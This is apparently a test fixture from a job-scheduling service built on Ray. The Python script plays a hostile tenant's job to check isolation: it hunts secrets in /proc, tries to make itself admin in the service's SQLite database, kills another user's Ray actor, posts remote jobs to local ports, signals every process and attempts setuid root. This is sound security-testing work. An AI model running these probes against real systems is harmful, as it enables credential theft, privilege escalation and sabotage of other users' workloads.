"""What a hostile user's job tries, run as an ordinary command rank (`python attack.py
CONFIG_FILE`): each probe records what happened instead of stopping, and the job prints one
`ATTACK-REPORT` line and writes the report as JSON to its outputs directory, which the
tests download through the public API.

CONFIG_FILE (JSON) names what the attacker is assumed to know or guess: the service's data
directory and database, Ray's directory, the GCS address, another job's rank actor, and
the secret strings it hunts for. Nothing here imports Gangway.
"""

from __future__ import annotations

import json
import os
import signal
import socket
import sqlite3
import subprocess
import sys
from pathlib import Path
from typing import Any

RAY_PROBE = """
import json, sys
import ray
ray.init(address=sys.argv[1], namespace="gangway", log_to_driver=False)
names = [a["name"] for a in ray.util.list_named_actors(all_namespaces=True)]
print("RAY-CONNECTED", json.dumps(names), flush=True)
ray.kill(ray.get_actor(sys.argv[2], namespace="gangway"))
print("RAY-KILLED", flush=True)
"""


def proc_texts() -> dict[str, str]:
    """Every /proc/<pid>/environ and cmdline this process can read."""
    texts = {}
    for pid in (p for p in os.listdir("/proc") if p.isdigit()):
        for name in ("environ", "cmdline"):
            try:
                texts[f"{pid}/{name}"] = (
                    Path(f"/proc/{pid}/{name}").read_bytes().decode(errors="replace")
                )
            except OSError:
                continue
    return texts


def try_read(path: str) -> str:
    try:
        with open(path, "rb") as handle:
            handle.read(64)
        return "read"
    except OSError as exc:
        return type(exc).__name__


def try_write(path: str) -> str:
    try:
        with open(path, "w") as handle:
            handle.write("bob was here")
        return "written"
    except OSError as exc:
        return type(exc).__name__


def try_database(path: str) -> str:
    if not os.path.exists(path):
        return "absent"
    try:
        connection = sqlite3.connect(path, timeout=2)
        connection.execute("update users set role = 'admin' where name = 'bob'")
        connection.commit()
        return "written"
    except sqlite3.Error as exc:
        return f"{type(exc).__name__}: {exc}"


def listening_ports() -> list[int]:
    """TCP ports listening on this host (the network namespace is the host's)."""
    ports = set()
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        try:
            lines = Path(table).read_text().splitlines()[1:]
        except OSError:
            continue
        for line in lines:
            fields = line.split()
            if fields[3] == "0A":  # LISTEN
                ports.add(int(fields[1].rsplit(":", 1)[1], 16))
    return sorted(ports)


def post_ray_job(port: int) -> str:
    """What a Ray dashboard agent's Jobs API would run: answered only with a token."""
    body = json.dumps({"entrypoint": "touch /tmp/pwned-by-bob"}).encode()
    request = (
        f"POST /api/job_agent/jobs/ HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\n"
        f"Content-Type: application/json\r\nContent-Length: {len(body)}\r\n"
        "Connection: close\r\n\r\n"
    ).encode() + body
    try:
        with socket.create_connection(("127.0.0.1", port), timeout=1) as conn:
            conn.settimeout(2)
            conn.sendall(request)
            answer = conn.recv(200).decode(errors="replace")
    except OSError as exc:
        return type(exc).__name__
    return answer.split("\r\n", 1)[0]


def try_ray(address: str, actor: str) -> str:
    """Join the cluster as a driver, list every job's actors, kill another user's rank."""
    try:
        done = subprocess.run(
            [sys.executable, "-c", RAY_PROBE, address, actor],
            capture_output=True,
            text=True,
            timeout=25,
            check=False,
            env={**os.environ, "RAY_ENABLE_WINDOWS_OR_OSX_CLUSTER": "0"},
        )
    except subprocess.TimeoutExpired:
        return "timed out"
    if "RAY-KILLED" in done.stdout:
        return "killed"
    if "RAY-CONNECTED" in done.stdout:
        return "connected"
    return f"refused (exit {done.returncode})"


def kill_everyone() -> int:
    """Signal every process this job can see; the count it could signal."""
    signalled = 0
    for pid in (int(p) for p in os.listdir("/proc") if p.isdigit()):
        if pid in (os.getpid(), os.getppid()):
            continue
        try:
            os.kill(pid, signal.SIGCONT)  # harmless, but proves the reach
            signalled += 1
        except OSError:
            continue
    return signalled


def main(config: dict[str, Any]) -> dict[str, Any]:
    texts = proc_texts()
    hunted = [s for s in config["secrets"] if s]
    report: dict[str, Any] = {
        "uid": os.getuid(),
        "visible_processes": len([p for p in os.listdir("/proc") if p.isdigit()]),
        "leaks_in_proc": sorted(
            key for key, text in texts.items() if any(s in text for s in hunted)
        ),
        "environment": sorted(os.environ),
        "ray_variables": sorted(k for k in os.environ if k.startswith("RAY_")),
        "reads": {path: try_read(path) for path in config["read"]},
        "writes": {path: try_write(path) for path in config["write"]},
        "database": try_database(config["database"]),
        "root_listing": sorted(os.listdir("/")),
        "signalled": kill_everyone(),
        "ray": try_ray(config["gcs_address"], config["victim_actor"]),
    }
    report["ray_jobs_api"] = {port: post_ray_job(port) for port in listening_ports()}
    try:
        os.setuid(0)
        report["setuid_root"] = "became root"
    except OSError as exc:
        report["setuid_root"] = type(exc).__name__
    return report


def summary(report: dict[str, Any]) -> dict[str, Any]:
    """What succeeded, in one short line (a release without outputs shows it in its log)."""
    return {
        "leaks_in_proc": len(report["leaks_in_proc"]),
        "ray_variables": report["ray_variables"],
        "visible_processes": report["visible_processes"],
        "database": report["database"][:40],
        "read": [p for p, r in report["reads"].items() if r == "read"],
        "written": [p for p, r in report["writes"].items() if r == "written"],
        "ray": report["ray"],
        "ray_jobs_api_200": [p for p, a in report["ray_jobs_api"].items() if " 200 " in a],
        "uid": report["uid"],
        "signalled": report["signalled"],
    }


if __name__ == "__main__":
    result = main(json.loads(Path(sys.argv[1]).read_text()))
    outputs = os.environ.get("OUTPUTS_DIR")
    if outputs:
        Path(outputs, "report.json").write_text(json.dumps(result, sort_keys=True))
    print("ATTACK-SUMMARY " + json.dumps(summary(result)), flush=True)
    # Output no pump expects: bytes that are not UTF-8, a line that never ends.
    sys.stdout.buffer.write(b"\xff\xfe not utf-8\n" + b"x" * 1_000_000 + b"\n")
    sys.stdout.buffer.write(b"after the endless line\n")
    sys.stdout.flush()
